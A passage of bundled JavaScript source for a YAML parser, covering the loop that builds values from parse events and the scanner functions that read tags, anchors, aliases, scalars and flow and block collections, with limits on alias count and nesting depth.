	while (state.eventIndex < state.events.length) {
		const event = state.events[state.eventIndex++];
		state.position = eventPosition$1(event);
		switch (event.type) {
			case EVENT_ID.DOCUMENT:
				state.anchors = /* @__PURE__ */ new Map();
				state.nodeTags = /* @__PURE__ */ new Map();
				state.aliasCount = 0;
				state.tagHandlers = Object.create(null);
				for (const directive of event.directives) if (directive.kind === "tag") state.tagHandlers[directive.handle] = directive.prefix;
				state.frames.push({
					kind: "document",
					position: state.position,
					value: void 0,
					hasValue: false
				});
				break;
			case EVENT_ID.SCALAR: {
				const { value, tag } = constructScalar(state, event);
				storeAnchor(state, event, value, tag, true);
				addValue(state, value, tag);
				break;
			}
			case EVENT_ID.SEQUENCE: {
				const tagName = collectionTagName(state, event, "tag:yaml.org,2002:seq");
				const tag = state.schema.lookupSequenceTag(tagName);
				if (!tag) throwError$1(state, `unknown sequence tag !<${tagName}>`);
				const value = tag.create(tagName);
				const anchor = storeAnchor(state, event, value, tag, tag.carrierIsResult);
				state.frames.push({
					kind: "sequence",
					position: state.position,
					value,
					tag,
					anchor,
					index: 0
				});
				break;
			}
			case EVENT_ID.MAPPING: {
				const tagName = collectionTagName(state, event, "tag:yaml.org,2002:map");
				const tag = state.schema.lookupMappingTag(tagName);
				if (!tag) throwError$1(state, `unknown mapping tag !<${tagName}>`);
				const value = tag.create(tagName);
				const anchor = storeAnchor(state, event, value, tag, tag.carrierIsResult);
				state.frames.push({
					kind: "mapping",
					position: state.position,
					value,
					tag,
					anchor,
					key: void 0,
					keyPosition: state.position,
					hasKey: false,
					keyIsMerge: false,
					overridable: null
				});
				break;
			}
			case EVENT_ID.ALIAS: {
				if (state.maxAliases !== -1 && ++state.aliasCount > state.maxAliases) throwError$1(state, `aliases exceeded maxAliases (${state.maxAliases})`);
				const name = state.source.slice(event.anchorStart, event.anchorEnd);
				const anchor = state.anchors.get(name);
				if (!anchor) throwError$1(state, `unidentified alias "${name}"`);
				if (!anchor.isValueFinal) throwError$1(state, `recursive alias "${name}" is not supported for tag ${anchor.tag.tagName} because it uses finalize()`);
				addValue(state, anchor.value, anchor.tag);
				break;
			}
			case EVENT_ID.POP: {
				const frame = state.frames.pop();
				if (frame.kind === "mapping" && frame.hasKey) {
					state.position = frame.keyPosition;
					throwError$1(state, "incomplete mapping pair in event stream");
				}
				if (frame.kind === "document") state.documents.push(frame.value);
				else {
					const value = frame.tag.carrierIsResult ? frame.value : finalizeCollection(state, frame.position, frame.tag, frame.value);
					if (frame.anchor) {
						frame.anchor.value = value;
						frame.anchor.isValueFinal = true;
					}
					addValue(state, value, frame.tag);
				}
				break;
			}
		}
	}
	return state.documents;
}
//#endregion
//#region src/parser/parser.ts
var NO_RANGE$1 = -1;
var HAS_OWN = Object.prototype.hasOwnProperty;
var CONTEXT_FLOW_IN = 1;
var CONTEXT_FLOW_OUT = 2;
var CONTEXT_BLOCK_IN = 3;
var CONTEXT_BLOCK_OUT = 4;
var PATTERN_NON_PRINTABLE = /[\x00-\x08\x0B\x0C\x0E-\x1F\x7F-\x84\x86-\x9F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?:[^\uD800-\uDBFF]|^)[\uDC00-\uDFFF]/;
var PATTERN_FLOW_INDICATORS = /[,\[\]{}]/;
var PATTERN_TAG_HANDLE = /^(?:!|!!|![0-9A-Za-z-]+!)$/;
var NS_URI_CHAR = String.raw`(?:%[0-9A-Fa-f]{2}|[0-9A-Za-z\-#;/?:@&=+$,_.!~*'()\[\]])`;
var NS_TAG_CHAR = String.raw`(?:%[0-9A-Fa-f]{2}|[0-9A-Za-z\-#;/?:@&=+$.~*'()_])`;
var PATTERN_TAG_URI = new RegExp(`^(?:${NS_URI_CHAR})*$`);
var PATTERN_TAG_SUFFIX = new RegExp(`^(?:${NS_TAG_CHAR})+$`);
var PATTERN_TAG_PREFIX = new RegExp(`^(?:!(?:${NS_URI_CHAR})*|${NS_TAG_CHAR}(?:${NS_URI_CHAR})*)$`);
var DEFAULT_PARSER_OPTIONS = {
	filename: "",
	maxDepth: 100
};
function addDocumentEvent(state, explicitStart, explicitEnd) {
	state.events.push({
		type: EVENT_ID.DOCUMENT,
		explicitStart,
		explicitEnd,
		directives: state.directives
	});
}
function addSequenceEvent(state, start, anchorStart, anchorEnd, tagStart, tagEnd, style) {
	state.events.push({
		type: EVENT_ID.SEQUENCE,
		start,
		anchorStart,
		anchorEnd,
		tagStart,
		tagEnd,
		style
	});
}
function addMappingEvent(state, start, anchorStart, anchorEnd, tagStart, tagEnd, style) {
	state.events.push({
		type: EVENT_ID.MAPPING,
		start,
		anchorStart,
		anchorEnd,
		tagStart,
		tagEnd,
		style
	});
}
function insertFlowPairMappingEvent(state, snapshot) {
	state.events.splice(snapshot.eventsLength, 0, {
		type: EVENT_ID.MAPPING,
		start: snapshot.position,
		anchorStart: NO_RANGE$1,
		anchorEnd: NO_RANGE$1,
		tagStart: NO_RANGE$1,
		tagEnd: NO_RANGE$1,
		style: COLLECTION_STYLE.FLOW
	});
}
function addScalarEvent(state, valueStart, valueEnd, anchorStart, anchorEnd, tagStart, tagEnd, style, chomping = CHOMPING_MODE.CLIP, indent = -1, fast = false) {
	state.events.push({
		type: EVENT_ID.SCALAR,
		valueStart,
		valueEnd,
		anchorStart,
		anchorEnd,
		tagStart,
		tagEnd,
		style,
		chomping,
		indent,
		fast
	});
}
function addAliasEvent(state, anchorStart, anchorEnd) {
	state.events.push({
		type: EVENT_ID.ALIAS,
		anchorStart,
		anchorEnd
	});
}
function addPopEvent(state) {
	state.events.push({ type: EVENT_ID.POP });
}
function addEmptyScalarEvent(state) {
	addScalarEvent(state, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, SCALAR_STYLE.PLAIN);
}
function emptyProperties() {
	return {
		anchorStart: NO_RANGE$1,
		anchorEnd: NO_RANGE$1,
		tagStart: NO_RANGE$1,
		tagEnd: NO_RANGE$1
	};
}
function snapshotState(state) {
	return {
		position: state.position,
		line: state.line,
		lineStart: state.lineStart,
		lineIndent: state.lineIndent,
		firstTabInLine: state.firstTabInLine,
		eventsLength: state.events.length
	};
}
function restoreState(state, snapshot) {
	state.position = snapshot.position;
	state.line = snapshot.line;
	state.lineStart = snapshot.lineStart;
	state.lineIndent = snapshot.lineIndent;
	state.firstTabInLine = snapshot.firstTabInLine;
	state.events.length = snapshot.eventsLength;
}
function throwError(state, message) {
	YAMLException.throwAt(state.input.slice(0, state.length), state.position, message, state.filename);
}
function isEol(c) {
	return c === 10 || c === 13;
}
function isWhiteSpace(c) {
	return c === 9 || c === 32;
}
function isWsOrEol(c) {
	return isWhiteSpace(c) || isEol(c);
}
function isWsOrEolOrEnd(c) {
	return c === 0 || isWsOrEol(c);
}
function isFlowIndicator(c) {
	return c === 44 || c === 91 || c === 93 || c === 123 || c === 125;
}
function fromDecimalCode(c) {
	return c >= 48 && c <= 57 ? c - 48 : -1;
}
function fromHexCode(c) {
	if (c >= 48 && c <= 57) return c - 48;
	const lc = c | 32;
	if (lc >= 97 && lc <= 102) return lc - 97 + 10;
	return -1;
}
function escapedHexLen(c) {
	if (c === 120) return 2;
	if (c === 117) return 4;
	if (c === 85) return 8;
	return 0;
}
function isSimpleEscape(c) {
	return c === 48 || c === 97 || c === 98 || c === 116 || c === 9 || c === 110 || c === 118 || c === 102 || c === 114 || c === 101 || c === 32 || c === 34 || c === 47 || c === 92 || c === 78 || c === 95 || c === 76 || c === 80;
}
function consumeLineBreak(state) {
	if (state.input.charCodeAt(state.position) === 10) state.position++;
	else {
		state.position++;
		if (state.input.charCodeAt(state.position) === 10) state.position++;
	}
	state.line++;
	state.lineStart = state.position;
	state.lineIndent = 0;
	state.firstTabInLine = -1;
}
function skipSeparationSpace(state, allowComments) {
	let lineBreaks = 0;
	let ch = state.input.charCodeAt(state.position);
	let hasSeparation = state.position === state.lineStart || isWsOrEol(state.input.charCodeAt(state.position - 1));
	while (ch !== 0) {
		while (isWhiteSpace(ch)) {
			hasSeparation = true;
			if (ch === 9 && state.firstTabInLine === -1) state.firstTabInLine = state.position;
			ch = state.input.charCodeAt(++state.position);
		}
		if (allowComments && hasSeparation && ch === 35) do
			ch = state.input.charCodeAt(++state.position);
		while (!isEol(ch) && ch !== 0);
		if (!isEol(ch)) break;
		consumeLineBreak(state);
		lineBreaks++;
		hasSeparation = true;
		ch = state.input.charCodeAt(state.position);
		while (ch === 32) {
			state.lineIndent++;
			ch = state.input.charCodeAt(++state.position);
		}
	}
	return lineBreaks;
}
function testDocumentSeparator(state, position = state.position) {
	const ch = state.input.charCodeAt(position);
	if ((ch === 45 || ch === 46) && ch === state.input.charCodeAt(position + 1) && ch === state.input.charCodeAt(position + 2)) {
		const following = state.input.charCodeAt(position + 3);
		return following === 0 || isWsOrEol(following);
	}
	return false;
}
function skipByteOrderMark(state) {
	if (state.position === state.lineStart && state.input.charCodeAt(state.position) === 65279) {
		state.position++;
		state.lineStart = state.position;
	}
}
function testDocumentBoundary(state) {
	if (state.position !== state.lineStart) return false;
	if (testDocumentSeparator(state)) return true;
	if (state.input.charCodeAt(state.position) !== 65279) return false;
	const snapshot = snapshotState(state);
	skipByteOrderMark(state);
	skipSeparationSpace(state, true);
	const ch = state.input.charCodeAt(state.position);
	const result = state.position === state.lineStart && (ch === 37 || ch === 45 && testDocumentSeparator(state));
	restoreState(state, snapshot);
	return result;
}
function skipUntilLineEnd(state) {
	let ch = state.input.charCodeAt(state.position);
	while (ch !== 0 && !isEol(ch)) ch = state.input.charCodeAt(++state.position);
}
function checkPrintable(state, start, end) {
	const match = PATTERN_NON_PRINTABLE.exec(state.input.slice(start, end));
	if (match !== null) {
		state.position = start + match.index + match[0].length - 1;
		throwError(state, "the stream contains non-printable characters");
	}
}
function readTagProperty(state, props, inFlow) {
	if (state.input.charCodeAt(state.position) !== 33) return false;
	if (props.tagStart !== NO_RANGE$1) throwError(state, "duplication of a tag property");
	const start = state.position;
	let isVerbatim = false;
	let isNamed = false;
	let tagHandle = "!";
	let ch = state.input.charCodeAt(++state.position);
	if (ch === 60) {
		isVerbatim = true;
		ch = state.input.charCodeAt(++state.position);
	} else if (ch === 33) {
		isNamed = true;
		tagHandle = "!!";
		ch = state.input.charCodeAt(++state.position);
	}
	let suffixStart = state.position;
	let tagName;
	if (isVerbatim) {
		while (ch !== 0 && ch !== 62) ch = state.input.charCodeAt(++state.position);
		if (ch !== 62) throwError(state, "unexpected end of the stream within a verbatim tag");
		tagName = state.input.slice(suffixStart, state.position);
		state.position++;
	} else {
		while (ch !== 0 && !isWsOrEol(ch) && !(inFlow && isFlowIndicator(ch))) {
			if (ch === 33) {
				if (!isNamed) {
					tagHandle = state.input.slice(suffixStart - 1, state.position + 1);
					if (!PATTERN_TAG_HANDLE.test(tagHandle)) throwError(state, "named tag handle cannot contain such characters");
					isNamed = true;
					suffixStart = state.position + 1;
				} else throwError(state, "tag suffix cannot contain exclamation marks");
			}
			ch = state.input.charCodeAt(++state.position);
		}
		tagName = state.input.slice(suffixStart, state.position);
		if (PATTERN_FLOW_INDICATORS.test(tagName)) throwError(state, "tag suffix cannot contain flow indicator characters");
	}
	if (tagName && !(isVerbatim ? PATTERN_TAG_URI.test(tagName) : PATTERN_TAG_SUFFIX.test(tagName))) throwError(state, `tag name cannot contain such characters: ${tagName}`);
	if (!isVerbatim && tagHandle !== "!" && tagHandle !== "!!" && !HAS_OWN.call(state.tagHandlers, tagHandle)) throwError(state, `undeclared tag handle "${tagHandle}"`);
	props.tagStart = start;
	props.tagEnd = state.position;
	return true;
}
function readAnchorProperty(state, props) {
	if (state.input.charCodeAt(state.position) !== 38) return false;
	if (props.anchorStart !== NO_RANGE$1) throwError(state, "duplication of an anchor property");
	state.position++;
	const start = state.position;
	while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position)) && !isFlowIndicator(state.input.charCodeAt(state.position))) state.position++;
	if (state.position === start) throwError(state, "name of an anchor node must contain at least one character");
	props.anchorStart = start;
	props.anchorEnd = state.position;
	return true;
}
function readAlias(state, props) {
	if (state.input.charCodeAt(state.position) !== 42) return false;
	if (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1) throwError(state, "alias node should not have any properties");
	state.position++;
	const start = state.position;
	while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position)) && !isFlowIndicator(state.input.charCodeAt(state.position))) state.position++;
	if (state.position === start) throwError(state, "name of an alias node must contain at least one character");
	addAliasEvent(state, start, state.position);
	return true;
}
function readFlowScalarBreak(state, nodeIndent) {
	skipSeparationSpace(state, false);
	if (state.lineIndent < nodeIndent) throwError(state, "deficient indentation");
}
function readSingleQuotedScalar(state, nodeIndent, props) {
	if (state.input.charCodeAt(state.position) !== 39) return false;
	state.position++;
	const start = state.position;
	let simple = true;
	while (state.input.charCodeAt(state.position) !== 0) {
		const ch = state.input.charCodeAt(state.position);
		if (ch === 39) {
			if (state.input.charCodeAt(state.position + 1) === 39) {
				simple = false;
				state.position += 2;
				continue;
			}
			const end = state.position;
			state.position++;
			addScalarEvent(state, start, end, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.SINGLE_QUOTED, CHOMPING_MODE.CLIP, -1, simple);
			return true;
		}
		if (isEol(ch)) {
			simple = false;
			readFlowScalarBreak(state, nodeIndent);
		} else if (state.position === state.lineStart && testDocumentSeparator(state)) throwError(state, "unexpected end of the document within a single quoted scalar");
		else if (ch !== 9 && ch < 32) throwError(state, "expected valid JSON character");
		else state.position++;
	}
	throwError(state, "unexpected end of the stream within a single quoted scalar");
}
function readDoubleQuotedScalar(state, nodeIndent, props) {
	if (state.input.charCodeAt(state.position) !== 34) return false;
	state.position++;
	const start = state.position;
	let simple = true;
	while (state.input.charCodeAt(state.position) !== 0) {
		const ch = state.input.charCodeAt(state.position);
		if (ch === 34) {
			const end = state.position;
			state.position++;
			addScalarEvent(state, start, end, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.DOUBLE_QUOTED, CHOMPING_MODE.CLIP, -1, simple);
			return true;
		}
		if (ch === 92) {
			simple = false;
			const escaped = state.input.charCodeAt(++state.position);
			if (isEol(escaped)) readFlowScalarBreak(state, nodeIndent);
			else if (isSimpleEscape(escaped)) state.position++;
			else {
				let hexLength = escapedHexLen(escaped);
				if (hexLength === 0) throwError(state, "unknown escape sequence");
				while (hexLength-- > 0) {
					state.position++;
					if (fromHexCode(state.input.charCodeAt(state.position)) < 0) throwError(state, "expected hexadecimal character");
				}
				state.position++;
			}
		} else if (isEol(ch)) {
			simple = false;
			readFlowScalarBreak(state, nodeIndent);
		} else if (state.position === state.lineStart && testDocumentSeparator(state)) throwError(state, "unexpected end of the document within a double quoted scalar");
		else if (ch !== 9 && ch < 32) throwError(state, "expected valid JSON character");
		else state.position++;
	}
	throwError(state, "unexpected end of the stream within a double quoted scalar");
}
function readBlockScalar(state, parentIndent, props) {
	const ch = state.input.charCodeAt(state.position);
	let chomping = CHOMPING_MODE.CLIP;
	let indent = -1;
	let detectedIndent = false;
	if (ch !== 124 && ch !== 62) return false;
	const style = ch === 124 ? SCALAR_STYLE.LITERAL_BLOCK : SCALAR_STYLE.FOLDED_BLOCK;
	state.position++;
	while (state.input.charCodeAt(state.position) !== 0) {
		const current = state.input.charCodeAt(state.position);
		const digit = fromDecimalCode(current);
		if (current === 43 || current === 45) {
			if (chomping !== CHOMPING_MODE.CLIP) throwError(state, "repeat of a chomping mode identifier");
			chomping = current === 43 ? CHOMPING_MODE.KEEP : CHOMPING_MODE.STRIP;
			state.position++;
		} else if (digit >= 0) {
			if (digit === 0) throwError(state, "bad explicit indentation width of a block scalar; it cannot be less than one");
			if (detectedIndent) throwError(state, "repeat of an indentation width identifier");
			indent = parentIndent + digit - 1;
			detectedIndent = true;
			state.position++;
		} else break;
	}
	let hadWhitespace = false;
	while (isWhiteSpace(state.input.charCodeAt(state.position))) {
		hadWhitespace = true;
		state.position++;
	}
	if (hadWhitespace && state.input.charCodeAt(state.position) === 35) skipUntilLineEnd(state);
	if (isEol(state.input.charCodeAt(state.position))) consumeLineBreak(state);
	else if (state.input.charCodeAt(state.position) !== 0) throwError(state, "a line break is expected");
	let contentIndent = detectedIndent ? indent : -1;
	let maxLeadingIndent = 0;
	const valueStart = state.position;
	let valueEnd = state.position;
	while (state.input.charCodeAt(state.position) !== 0) {
		const linePosition = state.position;
		let column = 0;
		while (state.input.charCodeAt(linePosition + column) === 32) column++;
		const first = state.input.charCodeAt(linePosition + column);
		if (first === 0) {
			if (contentIndent >= 0) {
				if (column > contentIndent) valueEnd = linePosition + column;
			} else if (column > 0) valueEnd = linePosition + column;
			break;
		}
		if (testDocumentBoundary(state)) break;
		if (!detectedIndent && contentIndent === -1 && isEol(first)) maxLeadingIndent = Math.max(maxLeadingIndent, column);
		if (!detectedIndent && contentIndent === -1 && !isEol(first)) {
			if (first === 9 && column < parentIndent) {
				state.position = linePosition + column;
				throwError(state, "tab characters must not be used in indentation");
			}
			if (column >= parentIndent && column < maxLeadingIndent) {
				state.position = linePosition + column;
				throwError(state, "bad indentation of a mapping entry");
			}
		}
		if (contentIndent === -1 && first !== 0 && !isEol(first) && column < parentIndent) {
			state.lineIndent = column;
			state.position = linePosition + column;
			break;
		}
		if (!detectedIndent && first !== 0 && !isEol(first) && contentIndent === -1) contentIndent = column;
		const requiredIndent = contentIndent === -1 ? parentIndent + 1 : contentIndent;
		if (first !== 0 && !isEol(first) && column < requiredIndent) {
			state.lineIndent = column;
			state.position = linePosition + column;
			break;
		}
		skipUntilLineEnd(state);
		valueEnd = state.position;
		if (isEol(state.input.charCodeAt(state.position))) {
			consumeLineBreak(state);
			valueEnd = state.position;
		}
	}
	checkPrintable(state, valueStart, valueEnd);
	addScalarEvent(state, valueStart, valueEnd, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, style, chomping, contentIndent);
	return true;
}
function canStartPlainScalar(state, nodeContext) {
	const ch = state.input.charCodeAt(state.position);
	const inFlow = nodeContext === CONTEXT_FLOW_IN;
	if (ch === 0 || isWsOrEol(ch) || ch === 35 || ch === 38 || ch === 42 || ch === 33 || ch === 124 || ch === 62 || ch === 39 || ch === 34 || ch === 37 || ch === 64 || ch === 96 || isFlowIndicator(ch)) return false;
	if (ch === 63 || ch === 45) {
		const following = state.input.charCodeAt(state.position + 1);
		if (isWsOrEolOrEnd(following) || inFlow && isFlowIndicator(following)) return false;
	}
	return true;
}
function readPlainScalar(state, nodeIndent, nodeContext, props) {
	if (!canStartPlainScalar(state, nodeContext)) return false;
	const start = state.position;
	let end = state.position;
	let ch = state.input.charCodeAt(state.position);
	const inFlow = nodeContext === CONTEXT_FLOW_IN;
	let multiline = false;
	while (ch !== 0) {
		if (testDocumentBoundary(state)) break;
		if (ch === 58) {
			const following = state.input.charCodeAt(state.position + 1);
			if (isWsOrEolOrEnd(following) || inFlow && isFlowIndicator(following)) break;
		} else if (ch === 35) {
			if (isWsOrEol(state.input.charCodeAt(state.position - 1))) break;
		} else if (inFlow && isFlowIndicator(ch)) break;
		else if (isEol(ch)) {
			const savedPosition = state.position;
			const savedLine = state.line;
			const savedLineStart = state.lineStart;
			const savedLineIndent = state.lineIndent;
			skipSeparationSpace(state, false);
			if (state.lineIndent >= nodeIndent) {
				multiline = true;
				ch = state.input.charCodeAt(state.position);
				continue;
			}
			state.position = savedPosition;
			state.line = savedLine;
			state.lineStart = savedLineStart;
			state.lineIndent = savedLineIndent;
			break;
		}
		if (!isWhiteSpace(ch)) end = state.position + 1;
		ch = state.input.charCodeAt(++state.position);
	}
	if (end === start) return false;
	checkPrintable(state, start, end);
	addScalarEvent(state, start, end, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.PLAIN, CHOMPING_MODE.CLIP, -1, !multiline);
	return true;
}
function skipFlowSeparationSpace(state, nodeIndent) {
	const startLine = state.line;
	skipSeparationSpace(state, true);
	if (state.line > startLine && state.lineIndent < nodeIndent || state.firstTabInLine !== -1 && state.lineIndent < nodeIndent) throwError(state, "deficient indentation");
}
function readFlowCollection(state, nodeIndent, props) {
	const ch = state.input.charCodeAt(state.position);
	const isMapping = ch === 123;
	const start = state.position;
	let readNext = true;
	if (ch !== 91 && ch !== 123) return false;
	const terminator = isMapping ? 125 : 93;
	if (isMapping) addMappingEvent(state, start, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.FLOW);
	else addSequenceEvent(state, start, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.FLOW);
	state.position++;
	while (state.input.charCodeAt(state.position) !== 0) {
		skipFlowSeparationSpace(state, nodeIndent);
		let ch = state.input.charCodeAt(state.position);
		if (ch === terminator) {
			state.position++;
			addPopEvent(state);
			return true;
		} else if (!readNext) throwError(state, "missed comma between flow collection entries");
		else if (ch === 44) throwError(state, "expected the node content, but found ','");
		let isPair = false;
		let isExplicitPair = false;
		if (ch === 63 && isWsOrEol(state.input.charCodeAt(state.position + 1))) {
			isPair = isExplicitPair = true;
			state.position += 1;
			skipFlowSeparationSpace(state, nodeIndent);
		}
		const entryLine = state.line;
		const entryStart = snapshotState(state);
		const keyWasRead = parseNode(state, nodeIndent, CONTEXT_FLOW_IN, false, true);
		skipFlowSeparationSpace(state, nodeIndent);
		ch = state.input.charCodeAt(state.position);
		if ((isMapping || isExplicitPair || state.line === entryLine) && ch === 58) {
			isPair = true;
			state.position++;
			skipFlowSeparationSpace(state, nodeIndent);
			if (!isMapping) {
				insertFlowPairMappingEvent(state, entryStart);
				if (!keyWasRead) addEmptyScalarEvent(state);
			} else if (!keyWasRead) addEmptyScalarEvent(state);
			if (!parseNode(state, nodeIndent, CONTEXT_FLOW_IN, false, true)) addEmptyScalarEvent(state);
			skipFlowSeparationSpace(state, nodeIndent);
			if (!isMapping) addPopEvent(state);
		} else if (isMapping && isPair) {
			if (!keyWasRead) addEmptyScalarEvent(state);
			addEmptyScalarEvent(state);
		} else if (isMapping) addEmptyScalarEvent(state);
		else if (isPair) {
			insertFlowPairMappingEvent(state, entryStart);
			if (!keyWasRead) addEmptyScalarEvent(state);
			addEmptyScalarEvent(state);
			addPopEvent(state);
		}
		ch = state.input.charCodeAt(state.position);
		if (ch === 44) {
			readNext = true;
			state.position++;
		} else readNext = false;
	}
	throwError(state, "unexpected end of the stream within a flow collection");
}
function readBlockSequence(state, nodeIndent, props) {
	if (state.firstTabInLine !== -1 || state.input.charCodeAt(state.position) !== 45 || !isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) return false;
	addSequenceEvent(state, state.position, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.BLOCK);
	while (state.input.charCodeAt(state.position) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) {
		if (state.firstTabInLine !== -1) {
			state.position = state.firstTabInLine;
			throwError(state, "tab characters must not be used in indentation");
		}
		const entryLine = state.line;
		state.position++;
		const hadBreak = skipSeparationSpace(state, true) > 0;
		if (state.firstTabInLine !== -1 && state.input.charCodeAt(state.position) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) throwError(state, "bad indentation of a sequence entry");
		if (hadBreak && state.lineIndent <= nodeIndent) addEmptyScalarEvent(state);
		else parseNode(state, nodeIndent, CONTEXT_BLOCK_IN, false, true);
		skipSeparationSpace(state, true);
		if (state.lineIndent < nodeIndent || state.position >= state.length) break;
		if (state.lineIndent > nodeIndent) throwError(state, "bad indentation of a sequence entry");
		if (state.line === entryLine && state.input.charCodeAt(state.position) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) throwError(state, "bad indentation of a sequence entry");
	}
	addPopEvent(state);
	return true;
}
function readBlockMapping(state, nodeIndent, flowIndent, props) {
	let atExplicitKey = false;
	let detected = false;
	let mappingOpened = false;
	let pendingExplicitKey = false;
	if (state.firstTabInLine !== -1) return false;
	let ch = state.input.charCodeAt(state.position);
	while (ch !== 0) {
		if (!atExplicitKey && state.firstTabInLine !== -1) {
			state.position = state.firstTabInLine;
			throwError(state, "tab characters must not be used in indentation");
		}
		const following = state.input.charCodeAt(state.position + 1);
		const entryLine = state.line;
		if ((ch === 63 || ch === 58) && isWsOrEolOrEnd(following)) {
			if (!mappingOpened) {
				addMappingEvent(state, state.position, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.BLOCK);
				mappingOpened = true;
			}
			if (ch === 63) {
				if (atExplicitKey) addEmptyScalarEvent(state);
				detected = true;
				atExplicitKey = true;
			} else if (atExplicitKey) atExplicitKey = false;
			else {
				addEmptyScalarEvent(state);
				detected = true;
				atExplicitKey = false;
			}
			state.position += 1;
			pendingExplicitKey = true;
		} else {
			if (atExplicitKey) {
				addEmptyScalarEvent(state);
				atExplicitKey = false;
			}
			const beforeKey = snapshotState(state);
			if (!parseNode(state, flowIndent, CONTEXT_FLOW_OUT, false, true)) break;
			if (state.line === entryLine) {
				ch = state.input.charCodeAt(state.position);
				while (isWhiteSpace(ch)) ch = state.input.charCodeAt(++state.position);
				if (ch === 58) {
					ch = state.input.charCodeAt(++state.position);
					if (!isWsOrEolOrEnd(ch)) throwError(state, "a whitespace character is expected after the key-value separator within a block mapping");
					if (!mappingOpened) {
						state.events.splice(beforeKey.eventsLength, 0, {
							type: EVENT_ID.MAPPING,
							start: beforeKey.position,
							anchorStart: props.anchorStart,
							anchorEnd: props.anchorEnd,
							tagStart: props.tagStart,
							tagEnd: props.tagEnd,
							style: COLLECTION_STYLE.BLOCK
						});
						mappingOpened = true;
					}
					detected = true;
					atExplicitKey = false;
					pendingExplicitKey = false;
				} else if (detected) throwError(state, "expected ':' after a mapping key");
				else {
					if (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1) {
						restoreState(state, beforeKey);
						return false;
					}
					return true;
				}
			} else if (detected) throwError(state, "can not read a block mapping entry; a multiline key may not be an implicit key");
			else {
				if (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1) {
					restoreState(state, beforeKey);
					return false;
				}
				return true;
			}
		}
		if (parseNode(state, nodeIndent, CONTEXT_BLOCK_OUT, true, pendingExplicitKey)) pendingExplicitKey = false;
		if (!atExplicitKey) {
			if (pendingExplicitKey) {
				addEmptyScalarEvent(state);
				pendingExplicitKey = false;
			}
		}
		skipSeparationSpace(state, true);
		ch = state.input.charCodeAt(state.position);
		if ((state.line === entryLine || state.lineIndent > nodeIndent) && ch !== 0) throwError(state, "bad indentation of a mapping entry");
		else if (state.lineIndent < nodeIndent) break;
	}
	if (!detected) return false;
	if (atExplicitKey) addEmptyScalarEvent(state);
	if (mappingOpened) addPopEvent(state);
	return true;
}
function parseNode(state, parentIndent, nodeContext, allowToSeek, allowCompact, allowPropertyMapping = true) {
	if (state.depth >= state.maxDepth) throwError(state, `nesting exceeded maxDepth (${state.maxDepth})`);
	state.depth++;
	let indentStatus = 1;
	let atNewLine = false;
	let hasContent = false;
	let propertyStart = null;
	const props = emptyProperties();
	let allowBlockScalars = nodeContext === CONTEXT_BLOCK_OUT || nodeContext === CONTEXT_BLOCK_IN;
	let allowBlockCollections = allowBlockScalars;
	const allowBlockStyles = allowBlockScalars;
	if (allowToSeek && skipSeparationSpace(state, true)) {
		atNewLine = true;
		if (state.lineIndent > parentIndent) indentStatus = 1;
		else if (state.lineIndent === parentIndent) indentStatus = 0;
		else indentStatus = -1;
	}
	if (indentStatus === 1) while (true) {
		const ch = state.input.charCodeAt(state.position);
		const propertyState = snapshotState(state);
		if (atNewLine && indentStatus !== 1 && (ch === 33 || ch === 38)) break;
		if (atNewLine && allowBlockStyles && (props.tagStart !== NO_RANGE$1 || props.anchorStart !== NO_RANGE$1) && (ch === 33 || ch === 38)) {
			const fallbackState = snapshotState(state);
			const flowIndent = parentIndent + 1;
			if (readBlockMapping(state, state.position - state.lineStart, flowIndent, props) && state.events[fallbackState.eventsLength]?.type === EVENT_ID.MAPPING) {
				state.depth--;
				return true;
			}
			restoreState(state, fallbackState);
		}
		if (atNewLine && (ch === 33 && props.tagStart !== NO_RANGE$1 || ch === 38 && props.anchorStart !== NO_RANGE$1)) break;
		if (!readTagProperty(state, props, nodeContext === CONTEXT_FLOW_IN) && !readAnchorProperty(state, props)) break;
		if (propertyStart === null) propertyStart = propertyState;
		if (skipSeparationSpace(state, true)) {
			atNewLine = true;
			allowBlockCollections = allowBlockStyles;
			if (state.lineIndent > parentIndent) indentStatus = 1;
			else if (state.lineIndent === parentIndent) indentStatus = 0;
			else indentStatus = -1;
		} else allowBlockCollections = false;
	}
	if (allowBlockCollections) allowBlockCollections = atNewLine || allowCompact;
	if (indentStatus === 1 || nodeContext === CONTEXT_BLOCK_OUT) {
		const flowIndent = nodeContext === CONTEXT_FLOW_IN || nodeContext === CONTEXT_FLOW_OUT ? parentIndent : parentIndent + 1;
		const blockIndent = state.position - state.lineStart;
		if (indentStatus === 1) {
			if (allowBlockCollections && (readBlockSequence(state, blockIndent, props) || readBlockMapping(state, blockIndent, flowIndent, props)) || readFlowCollection(state, flowIndent, props)) hasContent = true;
			else {
				const ch = state.input.charCodeAt(state.position);
				if (propertyStart !== null && allowPropertyMapping && allowBlockStyles && !allowBlockCollections && ch !== 124 && ch !== 62) {
					const fallbackState = snapshotState(state);
					const propertyIndent = propertyStart.position - propertyStart.lineStart;
					restoreState(state, propertyStart);
					if (readBlockMapping(state, propertyIndent, flowIndent, emptyProperties()) && state.events[fallbackState.eventsLength]?.type === EVENT_ID.MAPPING) hasContent = true;
					else restoreState(state, fallbackState);
